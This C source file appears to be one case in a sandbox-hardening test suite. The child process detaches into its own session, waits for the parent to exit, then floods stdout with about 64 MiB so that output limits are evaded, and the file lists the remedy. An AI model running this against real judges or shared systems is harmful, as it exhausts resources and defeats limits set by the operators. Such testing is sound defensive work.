// SPDX-License-Identifier: MIT
/*
 * after-the-end.c - the last word, when all is over.
 *
 * Goal:  more output than the budget.
 * Means: the program ends at once, in order. Its child, in a session of its own, has the pipe
 *        and begins to talk when nobody watches any more: who counts only while the program
 *        runs, or ends a process group, is late.
 */
#include "attacks/attack.h"

#include <errno.h>
#include <time.h>
#include <unistd.h>

#define PIECE (1 << 20)
#define TIMES 64

/* Talk, when nobody holds the other end of the line any more: the parent has ended. */
static _Noreturn void talk(const int line[2])
{
	static char lines[PIECE];
	char end;

	setsid();
	close(line[1]);
	for (int i = 0; i < PIECE; i++)
		lines[i] = i % 64 == 63 ? '\n' : 'x';
	while (read(line[0], &end, 1) < 0 && errno == EINTR)
		;
	nanosleep(&(struct timespec){ .tv_nsec = 100000000 }, NULL); /* who counted packs up */
	for (int i = 0; i < TIMES && write(STDOUT_FILENO, lines, PIECE) > 0; i++)
		;
	_exit(0);
}

static enum claim run(const struct brief *b)
{
	pid_t child;
	int line[2];

	if (pipe(line))
		return failed("pipe");
	attempting(b);
	child = fork();
	if (child == 0)
		talk(line);
	return child < 0 ? denied("fork") : CLAIM_DONE;
}

const struct attack attack = {
	.effect = "more output than the budget, after the program's end",
	.means = "a child in a session of its own floods when its parent has ended",
	.oracle = "usage:output",
	.quick = true,
	.attack_id = "T1499.003, CWE-400",
	.remedy = "end every process of a submission at its end, and close what was read",
	.run = run,
};
